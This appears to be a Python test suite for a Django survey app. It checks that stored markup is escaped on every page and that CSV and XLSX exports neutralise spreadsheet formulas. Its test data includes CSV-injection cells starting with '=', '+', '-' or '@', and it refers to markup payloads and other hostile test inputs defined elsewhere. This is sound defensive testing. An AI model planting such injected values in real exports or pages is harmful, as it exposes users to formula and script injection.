# --- Exports: formulas neutralised, everything else exact ----------------------------

# Cells a spreadsheet would read as a formula (OWASP "CSV injection", with tab and carriage return).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
export_cell = st.one_of(bounded_text, st.sampled_from(FORMULA_STARTS).map(lambda start: start + "1+1"))
export_row = st.fixed_dictionaries({column: export_cell for column in exports.COLUMNS})


def neutralised(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def xlsx_expected(text: str) -> str:
    """An XLSX cell: characters XML cannot hold dropped (before neutralising), line ends read back as LF."""
    kept = "".join(c for c in text if c in "\t\n\r" or not ("\x00" <= c <= "\x1f" or c in "\ufffe\uffff"))
    return neutralised(kept).replace("\r\n", "\n").replace("\r", "\n")


@examples(150)
@given(rows=st.lists(export_row, max_size=4))
def test_csv_export_neutralises_formulas_and_keeps_every_other_cell_exact(rows):
    text = "".join(exports.csv_lines(rows))

    parsed = list(csv.reader(io.StringIO(text, newline="")))

    assert parsed[0] == exports.COLUMNS
    assert parsed[1:] == [[neutralised(row[c]) for c in exports.COLUMNS] for row in rows]


@examples(60)
@given(rows=st.lists(export_row, max_size=3))
def test_xlsx_export_is_a_valid_file_that_neutralises_formulas(rows):
    buffer = io.BytesIO()
    exports.write_xlsx(rows, buffer)

    sheet = load_workbook(io.BytesIO(buffer.getvalue()), read_only=True).active
    parsed = [["" if v is None else v for v in r] for r in sheet.iter_rows(values_only=True)]

    assert parsed[0] == exports.COLUMNS
    assert parsed[1:] == [[xlsx_expected(row[c]) for c in exports.COLUMNS] for row in rows]
    for row in parsed[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


# --- Stored payloads on every page that shows them, and in the exports ---------------

# The answers of one analysed wave, every text a payload: 5 leaders, 2 staff sheets, 6 invited
# customers (enough for every group to be shown) and one open-link customer of a segment of
# their own (too small to show: it appears in the report's list of what is left out).
ITEM_PAYLOADS = [p for p in PAYLOADS if p.strip() and not must_refuse(p.strip(), MAX_LEN)]


def payload_answers(wave: Wave, n: int) -> Answers:
    texts = [ITEM_PAYLOADS[(n + k) % len(ITEM_PAYLOADS)] for k in range(3)]
    return Answers(
        items=[
            ItemInput("strengths", texts[0]),
            ItemInput("improvements", texts[1]),
            ItemInput("competition", texts[2], "bad"),
            ItemInput("continue_start", RAW_MARKUP[n % len(RAW_MARKUP)], "start"),
        ],
        ratings=[RatingInput(key, 1 + n % 5) for key in wave.rating_items.values_list("key", flat=True)],
    )


def analyse(wave: Wave):
    with override_settings(ANALYSIS_ENGINE="tfidf"):
        return analysis_services.analysis_run_now(wave=wave)


class StoredPayloadsTests(TestCase):
    """One analysed wave whose every text is markup: each page and export that shows it."""

    @classmethod
    def setUpTestData(cls):
        cls.consultant, workspace = consultant_create()
        cls.engagement = services.engagement_create(workspace=workspace, name="Acme " + RAW_MARKUP[0])
        cls.wave = wave = first_wave(cls.engagement)
        services.wave_update(wave=wave, title=RAW_MARKUP[1], opens_on=None, closes_on=None, open_link_enabled=True)
        services.department_add(engagement=cls.engagement, name=RAW_MARKUP[2])
        question = wave.questions.get(key="strengths")
        services.question_update(
            question=question, text_leadership=RAW_MARKUP[0], text_staff=RAW_MARKUP[1], text_customer=RAW_MARKUP[2]
        )
        services.rating_item_save(
            wave=wave,
            item=wave.rating_items.get(key="overall"),
            key="overall",
            label_leadership=RAW_MARKUP[0],
            label_staff=RAW_MARKUP[1],
            label_customer=RAW_MARKUP[2],
        )
        cls.session = services.session_open(wave=wave, opened_by=cls.consultant, name=RAW_MARKUP[0])
        for n in range(5):
            services.leader_submit(session=cls.session, answers=payload_answers(wave, n))
        for n in range(2):
            services.staff_sheet_save(
                wave=wave,
                details=SheetDetails(group_name=RAW_MARKUP[n], department=RAW_MARKUP[2], members=6),
                answers=payload_answers(wave, n),
                submit=True,
            )
        services.invitations_create(
            wave=wave,
            contacts=[
                Contact(email=f"c{n}@example.com", name=RAW_MARKUP[n % 3], segment=RAW_MARKUP[1]) for n in range(6)
            ],
        )
        for n, invitation in enumerate(wave.invitations.order_by("email")):
            services.invitation_submit(invitation=invitation, answers=payload_answers(wave, n))
        services.open_link_submit(wave=wave, segment=RAW_MARKUP[0], answers=payload_answers(wave, 0))
        cls.served = analyse(wave)

    def setUp(self):
        self.client = Browser()
        self.client.force_login(self.consultant)

    def wave_url(self, name: str, *args) -> str:
        return reverse(name, args=[self.engagement.slug, self.wave.number, *args])

    def theme_ids(self) -> list[int]:
        return sorted({t["theme_id"] for q in self.served.result["questions"].values() for t in q["themes"]})

    def pages(self) -> list[str]:
        slug, invitation = self.engagement.slug, self.wave.invitations.first()
        return [
            reverse("surveys:engagement_list"),
            reverse("surveys:engagement_detail", args=[slug]),
            reverse("surveys:engagement_settings", args=[slug]),
            reverse("surveys:department_list", args=[slug]),
            self.wave_url("surveys:wave_detail"),
            self.wave_url("surveys:wave_edit"),
            self.wave_url("surveys:question_wording"),
            self.wave_url("surveys:rating_item_list"),
            self.wave_url("surveys:session_detail", self.session.pk),
            self.wave_url("surveys:invitation_list"),
            self.wave_url("surveys:invitation_email") + f"?contact={invitation.pk}",
            self.wave_url("surveys:sheet_list"),
            self.wave_url("surveys:sheet_print"),
            self.wave_url("analysis:theme_list"),
            *(self.wave_url("analysis:theme_detail", theme_id) for theme_id in self.theme_ids()),
            self.wave_url("analysis:dashboard"),
            *(self.wave_url("analysis:question_dashboard", key) for key in QUESTION_TAGS),
            self.wave_url("analysis:report"),
            # The public pages show the company name, the wording and the customer's own name.
            reverse("public:leader_answer", args=[self.session.code]),
            reverse("public:staff_start", args=[self.wave.staff_token]),
            reverse("public:staff_print", args=[self.wave.staff_token]),
            reverse("public:open_answer", args=[self.wave.open_link_token]),
            reverse("public:customer_unsubscribe", args=[invitation.token]),
        ]

    def test_no_page_lets_stored_markup_through(self):
        for url in self.pages():
            html = html_of(self.client.get(url))
            for markup in RAW_MARKUP:
                assert markup not in html, f"{markup!r} unescaped on {url}"

    def test_the_theme_pages_show_every_verbatim_escaped(self):
        shown = "".join(html_of(self.client.get(self.wave_url("analysis:theme_detail", t))) for t in self.theme_ids())
        assigned = [pk for pk, theme in self.served.assignments.items() if theme is not None]
        assert len(assigned) > AnswerItem.objects.count() / 2
        for text in AnswerItem.objects.filter(pk__in=assigned).values_list("text", flat=True).distinct():
            assert_shown_escaped(shown, text)

    def test_the_contact_list_and_email_preview_show_names_escaped(self):
        html = html_of(self.client.get(self.wave_url("surveys:invitation_list")))
        for markup in RAW_MARKUP:
            assert_shown_escaped(html, markup)
        for invitation in self.wave.invitations.all():
            preview = html_of(self.client.get(self.wave_url("surveys:invitation_email") + f"?contact={invitation.pk}"))
            assert invitation.name not in preview

    def test_every_export_keeps_the_text_and_neutralises_formulas(self):
        slug, log = self.engagement.slug, io.StringIO()  # the command's summary goes to standard error
        csv_command = io.StringIO()
        call_command("export_items", slug, stdout=csv_command, stderr=log)
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "items.xlsx"
            call_command("export_items", slug, "--format", "xlsx", "--output", str(path), stderr=log)
            xlsx_command = path.read_bytes()
        csv_view = b"".join(self.client.get(self.wave_url("analysis:export_csv")).streaming_content).decode()
        xlsx_view = self.client.get(self.wave_url("analysis:export_xlsx")).content

        texts = list(AnswerItem.objects.values_list("text", flat=True))
        text_column = exports.COLUMNS.index("text")
        for content in (csv_view, csv_command.getvalue()):
            rows = list(csv.reader(io.StringIO(content, newline="")))[1:]
            assert sorted(row[text_column] for row in rows) == sorted(neutralised(t) for t in texts)
        for data in (xlsx_view, xlsx_command):
            rows = list(load_workbook(io.BytesIO(data), read_only=True).active.iter_rows(values_only=True))[1:]
            assert sorted(row[text_column] for row in rows) == sorted(xlsx_expected(t) for t in texts)


class AnalysedTextTests(WaveCase):
    """Random text through the analysis: the theme pages escape it, the export keeps it."""

    @examples(8)
    @given(text=hostile_text.map(str.strip).filter(lambda t: t and not must_refuse(t, MAX_LEN)))
    def test_any_answer_text_is_shown_escaped_and_exported_exactly(self, text):
        keys = list(self.wave.rating_items.values_list("key", flat=True))
        for _ in range(6):
            services.open_link_submit(
                wave=self.wave,
                answers=Answers(items=[ItemInput("improvements", text)], ratings=[RatingInput(k, 2) for k in keys]),
            )
        run = analyse(self.wave)
        self.login()

        theme_id = run.result["questions"]["improvements"]["themes"][0]["theme_id"]
        assert_shown_escaped(html_of(self.client.get(self.wave_url("analysis:theme_detail", theme_id))), text)
        for url in (self.wave_url("analysis:theme_list"), self.wave_url("analysis:report")):
            html = html_of(self.client.get(url))
            assert not any(markup in html for markup in RAW_MARKUP if markup in text)
        exported = b"".join(self.client.get(self.wave_url("analysis:export_csv")).streaming_content).decode()
        rows = list(csv.reader(io.StringIO(exported, newline="")))[1:]
        assert [r[exports.COLUMNS.index("text")] for r in rows] == [neutralised(text)] * 6



class ThemeCurationTests(WaveCase):
    """Renaming a theme, moving items and merging themes, with any name and any ids."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        keys = list(cls.wave.rating_items.values_list("key", flat=True))
        for _ in range(5):
            services.open_link_submit(
                wave=cls.wave,
                answers=Answers(items=[ItemInput("strengths", "Friendly")], ratings=[RatingInput(k, 4) for k in keys]),
            )
        cls.theme_id = analyse(cls.wave).result["questions"]["strengths"]["themes"][0]["theme_id"]

    @examples(20)
    @given(label=hostile_text)
    def test_a_theme_rename_is_stored_collapsed_or_refused(self, label):
        theme_id = self.theme_id
        self.login()
        before = database_snapshot()

        response = self.client.post(self.wave_url("analysis:theme_rename", theme_id), {"label": label})

        assert response.status_code == 302
        html = html_of(self.client.get(response["Location"]))
        theme = Theme.objects.get(pk=theme_id)
        if theme.custom_label:
            assert theme.custom_label == collapse(label)
            assert not must_refuse(label.strip(), 200)
            assert_shown_escaped(html, theme.custom_label)
        else:
            assert_error_shown(html)
            assert database_snapshot() == before

    @examples(25)
    @given(
        action=st.sampled_from(["item_move", "theme_merge"]),
        # Ids past the 64-bit range, or anything at all.
        items=st.one_of(st.lists(st.integers(2**63 - 2, 2**80).map(str), min_size=1), st.lists(hostile_number)),
        to_itself=st.booleans(),  # the theme itself: a place items may move to, and that nothing merges into
        target=hostile_number,
    )
    def test_moves_and_merges_with_any_ids_are_refused_or_move_this_waves_items(
        self, action, items, to_itself, target
    ):
        theme_id = self.theme_id
        target = str(theme_id) if to_itself else target
        self.login()
        before = database_snapshot()

        response = self.client.post(
            self.wave_url(f"analysis:{action}", theme_id), {"item": items, "theme": target, "target": target}
        )

        # 400: a body over DATA_UPLOAD_MAX_MEMORY_SIZE, refused before any view runs.
        assert response.status_code in (302, 400, 404), response.status_code
        if database_snapshot() != before:
            # Only a move of this wave's own items (small numbers are real ids) into a theme it shows.
            assert action == "item_move" and to_itself and response.status_code == 302
            wave_items = AnswerItem.objects.filter(respondent__wave=self.wave).values_list("pk", flat=True)
            assert {int(item) for item in items} <= set(wave_items)
        elif response.status_code == 302:
            assert_error_shown(html_of(self.client.get(response["Location"])))
